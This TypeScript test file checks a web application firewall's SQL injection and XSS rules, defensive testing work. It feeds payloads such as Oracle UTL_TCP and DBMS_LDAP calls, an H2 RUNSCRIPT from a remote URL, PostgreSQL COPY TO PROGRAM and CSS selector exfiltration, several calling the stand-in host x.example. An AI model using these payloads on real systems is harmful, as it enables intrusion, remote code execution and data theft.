import { describe, it } from 'vitest';
import type { EdgeRequest } from '../../../lambdas/core/edge-request.ts';
import { BROWSER_HEADERS, expectBlocked, expectDetected, expectNotFlaggedBy, form, get, json } from './helpers.ts';

/*
 * Second round of payload styles from public sources the development corpus does not carry: MySQL
 * tokenizer bypasses (1e0union, \Nunion, ODBC {fn …} escapes), Oracle/Informix/H2/ClickHouse probes
 * written with their own function and catalogue names, DOM clobbering and `location=name`.
 */

const q = (value: string): EdgeRequest => get(`/search?q=${encodeURIComponent(value)}`);
const header = (name: string, value: string): EdgeRequest => get('/search', { ...BROWSER_HEADERS, [name]: value });
const cookie = (value: string): EdgeRequest =>
  get('/search', { ...BROWSER_HEADERS, cookie: `session=abc; filter=${encodeURIComponent(value)}` });

describe('WAF SQLi: UNION glued to a token MySQL ends early', () => {
  it.each([
    ['a number in scientific notation (1e0union)', json({ id: '1e0union select 1,2' })],
    ['a decimal point (1.union)', q('1.union select user()')],
    ['the \\N NULL literal', cookie('\\Nunion select 1,2')],
  ])('blocks UNION SELECT after %s at sensitivity 70 (SQLI-100)', (_name, req) => {
    // Act / Assess
    expectBlocked(req, 'SQLI-100');
  });

  it.each([
    ['a word ending in a number', q('model x1e0 union station')],
    ['a newline escape before union in prose', q('first line\\nunion members were selected')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'SQLI-100');
  });
});

describe('WAF SQLi: ODBC escapes and MySQL brace identifiers around probe functions', () => {
  it.each([
    ['{fn concat(user(),…)}', get(`/item/${encodeURIComponent('{fn concat(user(),0x3a)}')}`)],
    ['{fn version()} in a form', form(`q=${encodeURIComponent('1 and {fn version()}')}`)],
    ['{x user} in a header', header('x-search', 'select{x user}')],
  ])('blocks %s at sensitivity 70 (SQLI-159)', (_name, req) => {
    expectDetected(req, 'SQLI-159');
  });

  it.each([
    ['an ODBC date literal', q("{d '2024-01-31'}")],
    ['a JDBC call escape', q('{call update_stock(?, ?)}')],
    ['a template placeholder', q('{x} items for {user}')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'SQLI-159');
  });
});

describe('WAF SQLi: dialect functions and catalogues outside MySQL and MSSQL', () => {
  it.each([
    ['Oracle SYS.DBMS_LOCK.SLEEP', json({ id: '1 AND SYS.DBMS_LOCK.SLEEP(5) IS NULL' }), 'SQLI-140'],
    ["ClickHouse's sleepEachRow", form('id=1%20AND%20sleepEachRow(3)%3D0'), 'SQLI-140'],
    ['Oracle UTL_INADDR.GET_HOST_NAME', q("' || UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual)) || '"), 'SQLI-141'],
    [
      'an H2 RUNSCRIPT FROM a URL',
      get(`/item/${encodeURIComponent("1; RUNSCRIPT FROM 'http://x.example/a.sql'")}`),
      'SQLI-141',
    ],
    ['the Informix/DB2 systables catalogue', q("' AND (SELECT FIRST 1 tabname FROM systables)='x"), 'SQLI-141'],
    ["H2's H2VERSION() after a break-out", cookie("' AND H2VERSION() IS NOT NULL--"), 'SQLI-112'],
    ["ClickHouse's currentUser() compared", q("1 AND currentUser()='default'"), 'SQLI-112'],
  ])('blocks %s at sensitivity 70', (_name, req, ruleId) => {
    expectDetected(req, ruleId);
  });

  it('blocks an Informix SELECT FIRST n sub-select after a break-out (SQLI-150)', () => {
    expectDetected(q("' AND (SELECT FIRST 1 name FROM users)='x"), 'SQLI-150');
  });

  it.each([
    ['prose about a script runner', q('the runscript from the toolbox'), 'SQLI-141'],
    ['a method call named like a ClickHouse function', q('logger.currentUser() returns the name'), 'SQLI-112'],
    ['a sentence with select first', q('select first 1 item from the list'), 'SQLI-150'],
  ])('allows %s', (_name, req, ruleId) => {
    expectNotFlaggedBy(req, ruleId);
  });
});

describe('WAF XSS: DOM clobbering and navigation without a call', () => {
  it.each([
    ['an image named getElementById', q('<img name=getElementById><img name=cookie>')],
    ['a form input id-ed attributes (sanitizer clobbering)', json({ bio: '<form id=x><input id=attributes>' })],
    ['an anchor named currentScript', form(`c=${encodeURIComponent('<a name="currentScript" href=//x.example>')}`)],
  ])('blocks %s at sensitivity 70 (XSS-192)', (_name, req) => {
    expectBlocked(req, 'XSS-192');
  });

  it.each([
    ['ordinary form fields', q('<input name="email"><input id="name"><select name=country>')],
    ['an element id in prose', q('the id=attributes option of the parser')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'XSS-192');
  });

  it.each([
    ['a JavaScript string break-out', q('"};location=name;//')],
    ['window.location = window.name', header('referer', "';window.location=window.name//")],
  ])('blocks location=name through %s at sensitivity 70 (XSS-151)', (_name, req) => {
    expectDetected(req, 'XSS-151');
  });

  it.each([
    ['a variable declaration', q('const location = name;')],
    ['an assignment from a property', q('location = name.trim() + suffix')],
  ])('allows %s', (_name, req) => {
    expectNotFlaggedBy(req, 'XSS-151');
  });
});

describe('WAF SQLi: PostgreSQL quoting and COPY … PROGRAM, string-arithmetic probes', () => {
  it('blocks COPY (SELECT …) TO PROGRAM stacked after a number at sensitivity 70 (SQLI-130, SQLI-141)', () => {
    // Prepare
    const req = q("1;copy (select '') to program 'id'");
    // Act / Assess
    expectBlocked(req, 'SQLI-130');
    expectBlocked(req, 'SQLI-141');
  });

  it('blocks a dollar-quoted tautology after a quote at sensitivity 70 (SQLI-110)', () => {
    expectBlocked(header('x-search', "' or $$a$$=$$a"), 'SQLI-110');
  });

  it.each([["'-''-'"], ["'&''&'"], ["'|''|'"]])('blocks the whole value %s at sensitivity 70 (SQLI-118)', (value) => {
    expectDetected(json({ name: value }), 'SQLI-118');
  });

  it.each([
    ['prose about copying to a program folder', q('copy the files to program folder'), 'SQLI-141'],
    ['a shell price with dollars', q("it's $5 or $10 = cheap"), 'SQLI-110'],
    ['quoted signs inside a sentence', q("rating: '-' (none) and '+' (good)"), 'SQLI-118'],
  ])('allows %s', (_name, req, ruleId) => {
    expectNotFlaggedBy(req, ruleId);
  });
});

describe('WAF SQLi: Oracle network packages, ISNULL probes and arithmetic comparisons', () => {
  it.each([
    ['SYS.DBMS_LDAP.INIT to an attacker host', json({ name: "' AND SYS.DBMS_LDAP.INIT(('x.example',80)) IS NULL--" })],
    ['UTL_TCP.OPEN_CONNECTION', q("'||UTL_TCP.OPEN_CONNECTION('x.example',80)||'")],
  ])('blocks %s at sensitivity 70 (SQLI-141)', (_name, req) => {
    expectBlocked(req, 'SQLI-141');
  });

  it('blocks AND ISNULL(1/0) after a number at sensitivity 70 (SQLI-112)', () => {
    expectBlocked(json({ name: '1 AND ISNULL(1/0)' }), 'SQLI-112');
  });

  it('blocks AND 3*2>5, a constant arithmetic comparison, at sensitivity 70 (SQLI-170)', () => {
    expectBlocked(form('comment=1%20AND%203*2%3E5'), 'SQLI-170');
  });

  it.each([
    ['a package name in prose', q('see the dbms_ldap package docs'), 'SQLI-141'],
    ['a product formula without a logic word', q('3*2>5 is true'), 'SQLI-170'],
  ])('allows %s', (_name, req, ruleId) => {
    expectNotFlaggedBy(req, ruleId);
  });
});

describe('WAF: back-quoted brace identifiers in SQL and CSS value exfiltration', () => {
  it("blocks MySQL's {`if`1} brace identifier after AND at sensitivity 70 (SQLI-159)", () => {
    expectBlocked(form(`c=${encodeURIComponent('1 and{`if`1}=1')}`), 'SQLI-159');
  });

  it('allows a JSX template literal in braces', () => {
    expectNotFlaggedBy(q('const a = {`${x}`}'), 'SQLI-159');
  });

  it('challenges an input[value^=…] selector loading another host at sensitivity 70 (XSS-193)', () => {
    expectDetected(cookie('<style>input[value^=a]{background:url(//x.example/a)}</style>'), 'XSS-193');
  });

  it('allows a value selector with a relative background image', () => {
    expectNotFlaggedBy(q('input[value="x"] { background: url(img/x.png) }'), 'XSS-193');
  });
});
